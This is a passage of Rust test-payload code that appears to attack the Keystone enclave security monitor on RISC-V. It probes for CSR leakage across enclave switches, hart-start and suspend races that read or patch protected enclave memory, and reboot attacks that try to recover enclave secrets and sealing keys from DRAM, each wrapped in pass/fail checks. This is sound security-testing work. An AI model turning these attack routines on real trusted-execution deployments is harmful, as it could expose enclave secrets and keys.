    let Ok(eid) = make(0) else { return };
    let HRound { host, run, after, run2 } = h_round(hw, eid, h_plant_host);
    let (mut e2h, mut lost, mut h2e, mut kept) = (Text::new(), Text::new(), Text::new(), 0);
    for (i, c) in h_list().into_iter().enumerate() {
        let held = utm_get(0, 0x200 + 8 * i) as usize;
        let at_resume = utm_get(0, 0x300 + 8 * i) as usize;
        let name = csr_name(c);
        if held != host[i] && after[i] == held {
            let _ = write!(e2h, "{name}={held:#x} ");
        }
        if after[i] != host[i] {
            let _ = write!(lost, "{name} {:#x}->{:#x} ", host[i], after[i]);
        }
        if held != host[i] && at_resume == host[i] {
            let _ = write!(h2e, "{name}={at_resume:#x} ");
        }
        kept += (at_resume == held) as usize;
    }
    let stopped = run.ret.error == err::EDGE_CALL_HOST && run.virt == 0;
    let exited = run2.ret.error == 0 && run2.virt == 0;
    check!(stopped && e2h.len == 0, "h-state: the enclave's H/VS CSRs do not reach the host after STOP";
        "the host read the enclave's {e2h}; run {run}");
    check!(stopped && lost.len == 0, "h-state: the host gets its own H/VS CSRs back after STOP";
        "changed: {lost}");
    check!(stopped && exited && h2e.len == 0, "h-state: at RESUME the enclave does not see the host's H/VS CSRs";
        "the enclave read the host's {h2e}; resume {run2}");
    crate::println!(
        "# h-state: {kept} of {N_H} of the enclave's own H/VS CSRs survived its STOP/RESUME"
    );
    destroy(eid);
}

/// The switch skips saving and loading H/VS CSRs when both worlds leave them
/// at their first-run values (checked CSR by CSR at each switch): a host
/// that sets just one of them, whichever, must still have it switched out
/// of the fresh enclave and back to itself.
fn h_one_csr(hw: &Hw) {
    let (mut leaked, mut lost, mut bad_runs) = (Text::new(), Text::new(), Text::new());
    for (i, (c, host, _)) in PLANT.into_iter().enumerate() {
        let Ok(eid) = make(0) else { return };
        command(0, 13, 1, 0);
        h_reset();
        vstimecmp_far();
        csr_write(c, host);
        let before = csr_read(c).unwrap_or(usize::MAX);
        let run = guarded(hw.me, eid, true, GUARD, MAX_GUARDED);
        let after = csr_read(c).unwrap_or(usize::MAX);
        h_reset();
        let seen = utm_get(0, 0x100 + 8 * i) as usize;
        let name = csr_name(c);
        if before != 0 && seen == before {
            let _ = write!(leaked, "{name}={seen:#x} ");
        }
        if after != before {
            let _ = write!(lost, "{name} {before:#x}->{after:#x} ");
        }
        if run.ret.error != 0 || run.virt != 0 {
            let _ = write!(bad_runs, "{name}: {run} ");
        }
        destroy(eid);
    }
    check!(bad_runs.len == 0 && leaked.len == 0,
        "h-state: any one H/VS CSR the host alone sets does not reach a fresh enclave";
        "the enclave read the host's {leaked}; runs {bad_runs}");
    check!(bad_runs.len == 0 && lost.len == 0,
        "h-state: the host gets back any one H/VS CSR it alone set";
        "changed: {lost}; runs {bad_runs}");
}

/// The other half of that shortcut: with a host that leaves H alone, an
/// enclave's own H/VS CSRs must still go out at STOP (the host reads its own
/// idle values) and come back at RESUME.
fn h_idle_host(hw: &Hw) {
    let Ok(eid) = make(0) else { return };
    let HRound { host: idle, run, after, run2 } = h_round(hw, eid, || {
        h_reset();
        vstimecmp_far();
    });
    let (mut e2h, mut changed) = (Text::new(), Text::new());
    for (i, c) in h_list().into_iter().enumerate() {
        let held = utm_get(0, 0x200 + 8 * i) as usize;
        let at_resume = utm_get(0, 0x300 + 8 * i) as usize;
        let name = csr_name(c);
        if after[i] != idle[i] {
            let _ = write!(e2h, "{name} {:#x}->{:#x} ", idle[i], after[i]);
        }
        // With Sstc, hvip.VSTIP follows vstimecmp, which the switch writes
        // after the H/VS CSRs: it reads what the enclave's vstimecmp says.
        let mask = if c == 0x645 && hw.sstc { !HVIP_VSTIP } else { usize::MAX };
        if at_resume & mask != held & mask {
            let _ = write!(changed, "{name} {held:#x}->{at_resume:#x} ");
        }
    }
    let stopped = run.ret.error == err::EDGE_CALL_HOST && run.virt == 0;
    let exited = run2.ret.error == 0 && run2.virt == 0;
    check!(stopped && e2h.len == 0,
        "h-state: a host that leaves H alone reads its own idle H/VS CSRs after the enclave's STOP";
        "the host's CSRs changed: {e2h}; run {run}");
    check!(stopped && exited && changed.len == 0,
        "h-state: with a host that leaves H alone, the enclave gets its own H/VS CSRs back at RESUME";
        "changed: {changed}; resume {run2}");
    destroy(eid);
}

/// hvip.VSTIP: the VS-level timer interrupt pending bit.
const HVIP_VSTIP: usize = 1 << 6;

/// Finding 2: an enclave that entered VS-mode (hstatus.SPV = 1, sret) and is
/// interrupted must hand the host back with V = 0 (mstatus.MPV is part of the
/// switch); otherwise the host runs on the enclave's VS CSRs.
fn mpv(hw: &Hw) {
    let Ok(eid) = make(0) else { return };
    let enclave_vs = 0xe5c2_0000_0000_7a5c_u64;
    command(0, 15, enclave_vs, 0);
    h_reset();
    csr_write(VSSCRATCH, HOST_VS_MARK);
    let run = guarded(hw.me, eid, true, GUARD, 0);
    let vs_when_trapped = traps::VIRT_VSSCRATCH.load(SeqCst);
    h_reset();
    let in_vs = utm_get(0, 0x60) == 1;
    crate::println!(
        "# mpv: the enclave {} VS-mode",
        if in_vs { "reached" } else { "did not reach" }
    );
    check!(run.ret.error == err::INTERRUPTED && run.virt == 0 && run.sscratch_seen.is_none(),
        "mpv: an enclave interrupted in VS-mode hands the host back with V=0";
        "the host resumed in V-mode on the enclave's VS CSRs (its sscratch was the enclave's vsscratch {:#x}); run {run}",
        if run.virt > 0 { vs_when_trapped } else { run.sscratch_seen.unwrap_or(0) });
    destroy(eid);
}

// ------------------------------------------------------------------ S state

/// senvcfg is an S-mode CSR outside Keystone's swapped set.
fn s_state(hw: &Hw) {
    let Some(_) = senvcfg() else {
        skip!("s-state: the host's senvcfg does not reach a fresh enclave"; "no senvcfg");
        skip!("s-state: the enclave's senvcfg does not reach the host after STOP"; "no senvcfg");
        return;
    };
    csr_write(SENVCFG, 1);
    let host = senvcfg().unwrap_or(0);
    if let Ok(eid) = make(0) {
        command(0, 13, 0, 0);
        let run = guarded(hw.me, eid, true, GUARD, MAX_GUARDED);
        let seen = utm_get(0, 0x1f8) as usize;
        check!(run.ret.error == 0 && (host == 0 || seen != host), "s-state: the host's senvcfg does not reach a fresh enclave";
            "host senvcfg {host:#x}, the enclave read {seen:#x}; run {run}");
        destroy(eid);
    }
    csr_write(SENVCFG, 0);
    if let Ok(eid) = make(0) {
        // Command 14 writes the H list too: only where the hart has H.
        if hw.has_h {
            for (i, (c, _, _)) in PLANT.into_iter().enumerate() {
                utm_set(0, 0x100 + 8 * i, csr_read(c).unwrap_or(0) as u64);
            }
        }
        utm_set(0, 0x1f8, 1);
        // Without H, command 14's H accesses trap into the enclave's own
        // handler, which skips them: only senvcfg is written.
        command(0, 14, 0, 0);
        let ret = guarded(hw.me, eid, true, GUARD, MAX_GUARDED).ret;
        let after = senvcfg().unwrap_or(0);
        let held = utm_get(0, 0x2f8) as usize;
        check!(ret.error == err::EDGE_CALL_HOST && (held == 0 || after != held), "s-state: the enclave's senvcfg does not reach the host after STOP";
            "the enclave held {held:#x}, the host read {after:#x} after STOP; RUN ({}, {:#x})", ret.error as isize, ret.value);
        csr_write(SENVCFG, 0);
        if ret.error == err::EDGE_CALL_HOST {
            ks(fid::RESUME_ENCLAVE, eid);
        }
        destroy(eid);
    }
}

// ------------------------------------------------------------------- races

/// Create arguments with one measured page (CREATE stays short, rounds many).
fn race_args(slot: usize) -> CreateArgs {
    let mut a = args(slot);
    a.runtime_paddr = a.epm_paddr + 0x1000;
    a.user_paddr = a.runtime_paddr;
    a.free_paddr = a.runtime_paddr;
    a
}

static RACE_GEN: AtomicUsize = AtomicUsize::new(0);
static RACE_EPM: AtomicUsize = AtomicUsize::new(0);
static CREATED_GEN: AtomicUsize = AtomicUsize::new(0);
#[allow(clippy::declare_interior_mutable_const)]
const Z: AtomicUsize = AtomicUsize::new(0);
static RACE_RESULT: [AtomicUsize; MAX_HARTS] = [Z; MAX_HARTS];
static RACE_LEAK: [AtomicUsize; MAX_HARTS] = [Z; MAX_HARTS];

const CLOSED: usize = 1;
const BREACH_READ: usize = 2;
const BREACH_WRITE: usize = 3;
const UNDECIDED: usize = 4;

/// A freshly started hart: read the EPM hart 0 is creating until the read
/// faults (closed, as it must be) or CREATE has returned and it still reads.
fn race_job(me: usize) {
    let gen = RACE_GEN.load(SeqCst);
    let epm = RACE_EPM.load(SeqCst);
    let start = time();
    let outcome = loop {
        let created = CREATED_GEN.load(SeqCst) == gen;
        let mut v = 0;
        if traps::catch(|| v = load(epm + SECRET_OFF)).is_some() {
            break CLOSED;
        }
        if created {
            RACE_LEAK[me].store(v as usize, SeqCst);
            let wrote = traps::catch(|| store(epm + PATCH_OFF, PATCH)).is_none();
            break if wrote { BREACH_WRITE } else { BREACH_READ };
        }
        if time() - start > SECOND / 5 {
            break UNDECIDED;
        }
    };
    RACE_RESULT[me].store(gen << 8 | outcome, SeqCst);
}

/// Finding 3: hart_start(h) then CREATE at once, thousands of times; the
/// started hart must never see the new EPM open.
fn race_start(hw: &Hw, rounds: usize) {
    let helpers = hw.others_mask();
    let n_helpers = helpers.count_ones();
    let (mut closed, mut breach_r, mut breach_w, mut undecided, mut failed) = (0, 0, 0, 0, 0);
    let (mut patched_runs, mut first) = (0usize, None);
    let t0 = time();
    let mut done = 0;
    for r in 0..rounds {
        let gen = r + 1;
        let slot = 4 + (r % 2);
        let a = race_args(slot);
        load_image(&a);
        put_secret(&a);
        CREATED_GEN.store(0, SeqCst);
        RACE_EPM.store(a.epm_paddr as usize, SeqCst);
        RACE_GEN.store(gen, SeqCst);
        for h in hw.others() {
            start_job(h, JOB_RACE);
        }
        for _ in 0..(r % 48) * 4 {
            core::hint::spin_loop();
        }
        let ret = create_raw(&a);
        CREATED_GEN.store(gen, SeqCst);
        let reported =
            wait_for(2 * SECOND, || hw.others().all(|h| RACE_RESULT[h].load(SeqCst) >> 8 == gen));
        let parked = wait_for(2 * SECOND, || hw.others().all(|h| status(h) == hart_state::STOPPED));
        if ret.error != 0 || !reported || !parked {
            failed += 1;
            crate::println!(
                "# hsm-race: round {r}: create ({}), reported {reported}, parked {parked}",
                ret.error as isize
            );
            if ret.error == 0 {
                destroy(ret.value);
            }
            if !parked {
                break;
            }
            continue;
        }
        let mut wrote = false;
        for h in hw.others() {
            match RACE_RESULT[h].load(SeqCst) & 0xff {
                CLOSED => closed += 1,
                BREACH_READ => breach_r += 1,
                BREACH_WRITE => {
                    breach_w += 1;
                    wrote = true;
                }
                _ => undecided += 1,
            }
            if RACE_RESULT[h].load(SeqCst) & 0xff >= BREACH_READ && first.is_none() {
                first = Some((r, h, RACE_LEAK[h].load(SeqCst)));
            }
        }
        if wrote && patched_runs == 0 {
            // Does the enclave now run with the patched (post-measurement) word?
            command(slot, 5, (a.epm_paddr as usize + PATCH_OFF) as u64, 0);
            let (run, _) = run_bounded(ret.value, 100);
            if run.error == 0 && run.value as u64 == PATCH {
                patched_runs += 1;
            }
        }
        destroy(ret.value);
        done += 1;
    }
    let secs = (time() - t0) / SECOND;
    let breaches = breach_r + breach_w;
    crate::println!(
        "# hsm-race start: {done} rounds in {secs} s with {n_helpers} helper(s): closed {closed}, read {breach_r}, read+write {breach_w}, undecided {undecided}, failed {failed}"
    );
    let first_txt = first.map_or((0, 0, 0), |f| f);
    check!(breaches == 0 && failed == 0 && done == rounds,
        "hsm-race: a hart being started cannot read or write an EPM CREATE closed (harts started {n_helpers} at a time) # rounds {done}, breaches {breaches}";
        "first at round {} on hart {} (read {:#x}, the secret word); {breach_w} of them also wrote the measured page{}; {failed} rounds failed",
        first_txt.0, first_txt.1, first_txt.2,
        if patched_runs > 0 { ", and the enclave then ran with the patched word" } else { "" });
}

static PROBE_ON: AtomicBool = AtomicBool::new(false);
/// The EPM hart 0 keeps alive right now (generation 0: none).
pub static LIVE_GEN: AtomicUsize = AtomicUsize::new(0);
pub static LIVE_EPM: AtomicUsize = AtomicUsize::new(0);
pub static PROBES: AtomicUsize = AtomicUsize::new(0);
pub static BREACHES: AtomicUsize = AtomicUsize::new(0);
pub static FIRST_BREACH: AtomicUsize = AtomicUsize::new(0);
pub static HSM_OPS: AtomicUsize = AtomicUsize::new(0);

/// One read of the live EPM; a read that works while the same enclave was
/// alive before and after it is a breach.
pub fn probe_live() {
    let g1 = LIVE_GEN.load(SeqCst);
    if g1 == 0 {
        return;
    }
    let epm = LIVE_EPM.load(SeqCst);
    let faulted = traps::catch(|| {
        load(epm + SECRET_OFF);
    })
    .is_some();
    let g2 = LIVE_GEN.load(SeqCst);
    PROBES.fetch_add(1, SeqCst);
    if !faulted && g1 == g2 {
        BREACHES.fetch_add(1, SeqCst);
        let _ = FIRST_BREACH.compare_exchange(0, g1, SeqCst, SeqCst);
    }
}

pub struct Rng(pub u64);

impl Rng {
    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    pub fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

fn suspend(kind: u32, job: usize) -> SbiRet {
    call(
        hsm::EID_HSM,
        hsm::HART_SUSPEND,
        [kind as usize, crate::rt::secondary_entry(), harts::TAG_ATTACK | job],
    )
}

/// Probes the live EPM between HSM operations on itself: retentive and
/// non-retentive suspends (hart 0's IPIs wake it) and stops (hart 0
/// restarts it).
fn probe_job(me: usize) {
    use hsm::suspend_type::{NON_RETENTIVE, RETENTIVE};
    let mut rng = Rng(time() ^ ((me as u64) << 40) | 1);
    // Just (re)started or resumed: the PMP it entered with is what is under
    // test, so probe hard for a while first.
    let t0 = time();
    while PROBE_ON.load(SeqCst) && time() - t0 < SECOND / 1000 {
        probe_live();
    }
    while PROBE_ON.load(SeqCst) {
        for _ in 0..16 {
            probe_live();
        }
        HSM_OPS.fetch_add(1, SeqCst);
        match rng.below(6) {
            0 => {
                suspend(RETENTIVE, JOB_PROBE);
            }
            1 => {
                suspend(NON_RETENTIVE, JOB_PROBE);
            }
            2 => return,
            _ => {}
        }
    }
}

/// Hart 0 creates and destroys enclaves while the other harts probe and
/// suspend, resume and stop themselves (restarted here).
fn race_hsm_cycle(hw: &Hw, rounds: usize) {
    PROBE_ON.store(true, SeqCst);
    PROBES.store(0, SeqCst);
    BREACHES.store(0, SeqCst);
    FIRST_BREACH.store(0, SeqCst);
    HSM_OPS.store(0, SeqCst);
    let mask = hw.others_mask();
    let mut rng = Rng(0x1234_5678_9abc_def1);
    let mut failed = 0;
    let mut restarts = 0;
    for r in 0..rounds {
        let a = race_args(6 + (r % 2));
        load_image(&a);
        put_secret(&a);
        for h in hw.others() {
            if status(h) == hart_state::STOPPED {
                start_job(h, JOB_PROBE);
                restarts += 1;
            }
        }
        // Scans the window between a restart and CREATE, as race_start does.
        for _ in 0..(r % 48) * 4 {
            core::hint::spin_loop();
        }
        let ret = create_raw(&a);
        if ret.error != 0 {
            failed += 1;
            continue;
        }
        LIVE_EPM.store(a.epm_paddr as usize, SeqCst);
        LIVE_GEN.store(r + 1, SeqCst);
        call(sbi_spec::spi::EID_SPI, sbi_spec::spi::SEND_IPI, [mask, 0, 0]);
        let hold = rng.below(SECOND / 1000);
        wait_for(hold, || false);
        LIVE_GEN.store(0, SeqCst);
        if destroy(ret.value).error != 0 {
            failed += 1;
        }
    }
    PROBE_ON.store(false, SeqCst);
    let parked = wait_for(5 * SECOND, || {
        call(sbi_spec::spi::EID_SPI, sbi_spec::spi::SEND_IPI, [mask, 0, 0]);
        hw.others().all(|h| status(h) == hart_state::STOPPED)
    });
    let (probes, breaches, ops) =
        (PROBES.load(SeqCst), BREACHES.load(SeqCst), HSM_OPS.load(SeqCst));
    crate::println!("# hsm-race cycle: {rounds} rounds, {probes} probes, {ops} HSM ops, {restarts} restarts, {breaches} breaches");
    check!(breaches == 0 && failed == 0 && parked,
        "hsm-race: harts suspending, resuming and stopping never read a live EPM # rounds {rounds}, probes {probes}, hsm ops {ops}, breaches {breaches}";
        "first breach in round {}; {failed} create/destroy failures; helpers parked at the end: {parked}", FIRST_BREACH.load(SeqCst) as isize - 1);
}

// ---------------------------------------------------------------- HSM fuzz

pub static HSMFUZZ_ON: AtomicBool = AtomicBool::new(false);
pub static HSMFUZZ_CALLS: AtomicUsize = AtomicUsize::new(0);
pub static HSMFUZZ_BAD: AtomicUsize = AtomicUsize::new(0);
pub static HSMFUZZ_FIRST_BAD: AtomicUsize = AtomicUsize::new(0);

fn documented(ret: &SbiRet) -> bool {
    ret.error == 0 || (-13..=-1).contains(&(ret.error as isize))
}

/// Random HSM calls on itself and the other harts, with probes of the live
/// EPM in between (bootarg `fuzz=` on several harts).
fn hsm_fuzz_job(me: usize) {
    use hsm::*;
    let mut rng = Rng(time() ^ ((me as u64) << 32) | 1);
    let entry = crate::rt::secondary_entry();
    while HSMFUZZ_ON.load(SeqCst) {
        probe_live();
        let target = match rng.below(6) {
            0 => usize::MAX - rng.below(4) as usize,
            1 => rng.below(64) as usize,
            _ => rng.below(MAX_HARTS as u64) as usize,
        };
        // (No odd address: the SM accepts one for a non-retentive suspend,
        // unlike hart_start, and the hart then dies on a misaligned fetch.)
        let addr = match rng.below(5) {
            0 => keystone_abi::layout::SM_BASE + 0x100,
            1 => 0x1000,
            2 => 0,
            _ => entry,
        };
        let (f, ret) = match rng.below(16) {
            0..=5 => (HART_GET_STATUS, call(EID_HSM, HART_GET_STATUS, [target, 0, 0])),
            6..=9 => (
                HART_START,
                call(EID_HSM, HART_START, [target, addr, harts::TAG_ATTACK | JOB_HSMFUZZ]),
            ),
            10 => (HART_SUSPEND, suspend(suspend_type::RETENTIVE, JOB_HSMFUZZ)),
            11 => (
                HART_SUSPEND,
                call(
                    EID_HSM,
                    HART_SUSPEND,
                    [suspend_type::NON_RETENTIVE as usize, addr, harts::TAG_ATTACK | JOB_HSMFUZZ],
                ),
            ),
            12 => (HART_SUSPEND, call(EID_HSM, HART_SUSPEND, [rng.next() as usize, addr, 0])),
            13 => return,
            _ => (0x42, call(EID_HSM, 0x42 + rng.below(4) as usize, [target, addr, 0])),
        };
        HSMFUZZ_CALLS.fetch_add(1, SeqCst);
        let bad = !documented(&ret) || (f == HART_GET_STATUS && ret.error == 0 && ret.value > 6);
        if bad {
            HSMFUZZ_BAD.fetch_add(1, SeqCst);
            let _ = HSMFUZZ_FIRST_BAD.compare_exchange(
                0,
                (f << 16) | (ret.error & 0xffff),
                SeqCst,
                SeqCst,
            );
        }
    }
}

// ------------------------------------------------------------------- reset

const MARKER: usize = 0x8ff0_0000;
const MARKER_MAGIC: u64 = 0x4b53_5245_5345_5431; // "KSRESET1"
const RESET_SLOT: usize = 6;
const RESET_SECRET_WORDS: usize = 512;

fn reset_secret_present(epm: usize) -> usize {
    (0..RESET_SECRET_WORDS)
        .filter(|&i| {
            // SAFETY: outside any live enclave at boot: plain host DRAM.
            unsafe {
                ((epm + SECRET_OFF + 8 * i) as *const u64).read_volatile() == secret_word(epm, i)
            }
        })
        .count()
}

/// Word `i` of host DRAM at `at`, which a reset leaves alone (QEMU keeps RAM):
/// where the reset attacks keep what one boot tells the next.
fn dram_word(at: usize, i: usize) -> u64 {
    // SAFETY: host DRAM the payload reserves for its markers.
    unsafe { ((at + 8 * i) as *const u64).read_volatile() }
}

fn set_dram_word(at: usize, i: usize, w: u64) {
    // SAFETY: as in `dram_word`.
    unsafe { ((at + 8 * i) as *mut u64).write_volatile(w) };
}

fn marker_word(i: usize) -> u64 {
    dram_word(MARKER, i)
}

fn set_marker(words: [u64; 3]) {
    for (i, w) in words.into_iter().enumerate() {
        set_dram_word(MARKER, i, w);
    }
    // SAFETY: orders the marker before the reset.
    unsafe { core::arch::asm!("fence rw, rw") };
}

/// Plants the reset attacks' secret in the EPM at `epm` (payload memory until CREATE).
fn put_reset_secret(epm: usize) {
    for i in 0..RESET_SECRET_WORDS {
        // SAFETY: payload memory until CREATE.
        unsafe { ((epm + SECRET_OFF + 8 * i) as *mut u64).write_volatile(secret_word(epm, i)) };
    }
}

/// Zeroes that secret again once the EPM is host memory (no secret for the next run).
fn clear_reset_secret(epm: usize) {
    // SAFETY: host DRAM again (no live enclave there).
    unsafe { core::ptr::write_bytes((epm + SECRET_OFF) as *mut u64, 0, RESET_SECRET_WORDS) };
}

/// Bootargs `attack=reset-srst` or `attack=reset-testdev`. Stage 1 (no
/// marker): create an enclave whose EPM holds a known secret, leave it
/// stopped mid-run, write a marker (magic, kind, EPM) at MARKER, and reset:
/// SBI SRST cold reboot, or a store of 0x7777 to the SiFive test device from
/// S-mode (which must fault). Stage 2 (marker found, the next boot in the
/// same QEMU, whose RAM survives a reset): the EPM must not hold the secret.
pub fn reset(kind: &str) {
    // 1: SBI SRST, 2: the test device, 3: a reset from outside (QEMU's
    // system_reset, as a watchdog or a reset button would do it).
    let how: u64 = match kind {
        "reset-srst" => 1,
        "reset-testdev" => 2,
        "reset-external" => 3,
        _ => {
            check!(false, "attack={kind} is known"; "use reset-srst, reset-testdev or reset-external");
            return;
        }
    };
    let testdev = how == 2;
    let a = args(RESET_SLOT);
    let epm = a.epm_paddr as usize;
    let found = marker_word(0) == MARKER_MAGIC;
    let present = reset_secret_present(epm);
    crate::println!(
        "# reset: boot finds marker {}, {present} of {RESET_SECRET_WORDS} secret words at EPM {epm:#x}",
        if found { "yes" } else { "no" }
    );
    if found {
        let was = marker_word(1);
        let was_testdev = was == 2;
        let marked_epm = marker_word(2) as usize;
        set_marker([0, 0, 0]);
        let name = match was {
            2 => "reset-testdev",
            3 => "reset-external",
            _ => "reset-srst",
        };
        if was_testdev {
            check!(false, "reset-testdev: an S-mode store to the SiFive test device faults (scause 7) instead of resetting the machine";
                "the store reset the machine: this boot found stage 1's marker");
        }
        check!(present == 0 && marked_epm == epm, "{name}: after the reset the old enclave's EPM no longer holds its secret";
            "{present} of {RESET_SECRET_WORDS} secret words survived the reset at {epm:#x}");
        clear_reset_secret(epm);
        return;
    }
    check!(present == 0, "reset: no enclave secret in DRAM before stage 1"; "{present} secret words at {epm:#x} without a marker");
    load_image(&a);
    put_reset_secret(epm);
    let ret = create_raw(&a);
    check!(ret.error == 0, "reset: stage 1 creates the enclave holding the secret"; "create error {}", ret.error as isize);
    if ret.error != 0 {
        return;
    }
    let eid = ret.value;
    command(RESET_SLOT, 2, 0, 0);
    let stop = ks(fid::RUN_ENCLAVE, eid);
    let closed = traps::catch(|| {
        load(epm + SECRET_OFF);
    });
    check!(stop.error == err::EDGE_CALL_HOST && closed.is_some(), "reset: the enclave is alive (stopped in an edge call) and its EPM closed to the host";
        "RUN ({}, {:#x}), host read fault {:?}", stop.error as isize, stop.value, closed);
    set_marker([MARKER_MAGIC, how, epm as u64]);
    if how == 3 {
        crate::println!("# reset: stage 1 done, waiting for an external reset");
        loop {
            core::hint::spin_loop();
        }
    }
    if testdev {
        crate::println!(
            "# reset: stage 1 done, S-mode store of 0x7777 to the test device at 0x100000"
        );
        let got = traps::catch(|| {
            // SAFETY: the attack: QEMU's SiFive test device resets on 0x7777.
            unsafe { (0x10_0000 as *mut u32).write_volatile(0x7777) };
        });
        set_marker([0, 0, 0]);
        check!(matches!(got, Some((7, 0x10_0000))), "reset-testdev: an S-mode store to the SiFive test device faults (scause 7) instead of resetting the machine";
            "got {:?}", got);
    } else {
        crate::println!("# reset: stage 1 done, SBI SRST cold reboot");
        use sbi_spec::srst::*;
        let r = call(
            EID_SRST,
            SYSTEM_RESET,
            [RESET_TYPE_COLD_REBOOT as usize, RESET_REASON_NO_REASON as usize, 0],
        );
        set_marker([0, 0, 0]);
        check!(false, "reset-srst: SBI SRST cold reboot resets the machine"; "it returned error {}", r.error as isize);
    }
    ks(fid::RESUME_ENCLAVE, eid);
    destroy(eid);
}

// -------------------------------------------------------------- reset race

/// Host DRAM the race keeps across its reboots: magic, round, bad rounds,
/// key words seen after the reboots, then the 16 words of the key.
const RACE_MARKER: usize = 0x8ff1_0000;
const RACE_MAGIC: u64 = 0x4b53_5241_4345_5231; // "KSRACER1"
const RACE_SLOT: usize = 7;
const KEY_WORDS: usize = 16;
/// Where the enclave's command 21 has GET_SEALING_KEY write the key.
const KEY_OFF: usize = 0x2000;
static RACE_EID: AtomicUsize = AtomicUsize::new(usize::MAX);

fn race_word(i: usize) -> u64 {
    dram_word(RACE_MARKER, i)
}

fn set_race_word(i: usize, w: u64) {
    set_dram_word(RACE_MARKER, i, w);
}

/// Runs the sealing enclave on another hart until the machine resets.
fn sealer_job(_me: usize) {
    let eid = RACE_EID.load(SeqCst);
    let mut ret = ks(fid::RUN_ENCLAVE, eid);
    while ret.error == err::INTERRUPTED {
        ret = ks(fid::RESUME_ENCLAVE, eid);
    }
    crate::println!("# reset-race: the sealing enclave stopped ({})", ret.error as isize);
}

/// Bootarg `attack=reset-race rounds=N`: finding 1 of the reboot attack.
/// Each round: an enclave on the last hart rewrites its sealing key into its
/// EPM as fast as it can while this hart calls SRST cold reboot (other harts
/// spin in S-mode). After each reboot (same QEMU: RAM survives) the EPM must
/// not hold a word of the key. The tally survives the reboots in host DRAM.
pub fn reset_race(fdt: &fdt::Fdt, me: usize, rounds: u64) {
    let hw = Hw::from_fdt(fdt, me);
    let Some(victim) = hw.others().last() else {
        skip!("reset: SRST while an enclave rewrites its sealing key on another hart leaves no key word in DRAM"; "one hart");
        return;
    };
    let epm = args(RACE_SLOT).epm_paddr as usize;
    let mut round = 0;
    if race_word(0) == RACE_MAGIC {
        let key = |i| race_word(4 + i);
        let survived = (0..KEY_WORDS)
            .filter(|&i| {
                // SAFETY: no enclave is alive at boot: plain host DRAM.
                unsafe { ((epm + KEY_OFF + 8 * i) as *const u64).read_volatile() == key(i) }
            })
            .count();
        round = race_word(1) + 1;
        set_race_word(2, race_word(2) + u64::from(survived != 0));
        set_race_word(3, race_word(3) + survived as u64);
        crate::println!(
            "# reset-race: round {round}: {survived} of {KEY_WORDS} key words survived the reboot"
        );
        // SAFETY: host DRAM again; leave nothing for the next round.
        unsafe { core::ptr::write_bytes((epm + KEY_OFF) as *mut u64, 0, KEY_WORDS) };
        if round >= rounds {
            let (bad, words) = (race_word(2), race_word(3));
            set_race_word(0, 0);
            check!(bad == 0, "reset: SRST while an enclave rewrites its sealing key on another hart leaves no key word in DRAM # rounds {rounds}";
                "the key survived {bad} of {rounds} reboots ({words} words in all)");
            return;
        }
    } else {
        for i in 1..4 {
            set_race_word(i, 0);
        }
    }
    let a = args(RACE_SLOT);
    load_image(&a);
    let ret = create_raw(&a);
    if ret.error != 0 {
        set_race_word(0, 0);
        check!(false, "reset: the race's sealing enclave is created"; "create error {}", ret.error as isize);
        return;
    }
    RACE_EID.store(ret.value, SeqCst);
    command(RACE_SLOT, 21, 0, 0);
    harts::HOLD.store(true, SeqCst);
    for h in hw.others().filter(|&h| h != victim) {
        call(hsm::EID_HSM, hsm::HART_START, [h, crate::rt::secondary_entry(), harts::TAG_STOP]);
    }
    start_job(victim, JOB_SEALER);
    // A few keys written, then a little more for every round: the reboot
    // lands at a different point of the enclave's loop each time.
    let started = wait_for(30 * SECOND, || utm_word(RACE_SLOT, 1) >= 3);
    let key: [u64; KEY_WORDS] = core::array::from_fn(|i| utm_word(RACE_SLOT, 0x40 + i));
    if !started || key.iter().all(|&w| w == 0) {
        set_race_word(0, 0);
        check!(false, "reset: the race's enclave writes its sealing key"; "{} keys written", utm_word(RACE_SLOT, 1));
        return;
    }
    for (i, w) in key.iter().enumerate() {
        set_race_word(4 + i, *w);
    }
    set_race_word(1, round);
    set_race_word(0, RACE_MAGIC);
    // SAFETY: orders the marker before the reset.
    unsafe { core::arch::asm!("fence rw, rw") };
    let spin = (round as usize * 7919) % 20_000;
    for _ in 0..spin {
        core::hint::spin_loop();
    }
    use sbi_spec::srst::*;
    let r = call(
        EID_SRST,
        SYSTEM_RESET,
        [RESET_TYPE_COLD_REBOOT as usize, RESET_REASON_NO_REASON as usize, 0],
    );
    set_race_word(0, 0);
    check!(false, "reset: SRST cold reboot with an enclave running on another hart resets the machine";
        "it returned error {}", r.error as isize);
}

// ------------------------------------------------------------- reset claim

const CLAIM_MARKER: usize = 0x8ff2_0000;
const CLAIM_MAGIC: u64 = 0x4b53_434c_4149_4d31; // "KSCLAIM1"

/// An enclave slot at `epm` (64 KiB, NAPOT), its UTM from slot `utm_slot`.
fn args_at(epm: usize, utm_slot: usize) -> CreateArgs {
    let u = args(utm_slot);
    CreateArgs {
        epm_paddr: epm as u64,
        runtime_paddr: epm as u64 + 0x1000,
        user_paddr: epm as u64 + 0x2000,
        free_paddr: epm as u64 + 0x3000,
        ..u
    }
}

/// Bootarg `attack=reset-claim`: finding 2. The kernel's Image header (this
/// payload's, or a copy with a larger image_size) claims a footprint; stage
/// 1 asks for an EPM at 0x81000000 (inside a claim of more than 14 MiB) and a
/// control EPM above the claim, both holding a secret and alive, then waits
/// for a reset from outside (QEMU's system_reset). Stage 2: neither EPM the
/// SM accepted holds its secret.
pub fn reset_claim() {
    // SAFETY: the payload's own Image header at its load address.
    let claim =
        unsafe { ((keystone_abi::layout::PAYLOAD_BASE + 16) as *const u64).read_volatile() };
    let end = keystone_abi::layout::PAYLOAD_BASE as u64 + claim;
    let inside = args(0).epm_paddr as usize;
    let control = (end as usize).next_multiple_of(0x10_0000) + 0x10_0000;
    let marker = |i| dram_word(CLAIM_MARKER, i);
    let set = |i, w| set_dram_word(CLAIM_MARKER, i, w);
    crate::println!("# reset-claim: the kernel header claims {claim:#x} bytes (to {end:#x}); control EPM {control:#x}");
    if marker(0) == CLAIM_MAGIC {
        set(0, 0);
        for (i, name) in [(1, "inside the claim"), (2, "above the claim")] {
            let epm = marker(i) as usize;
            if epm == 0 {
                continue;
            }
            let present = reset_secret_present(epm);
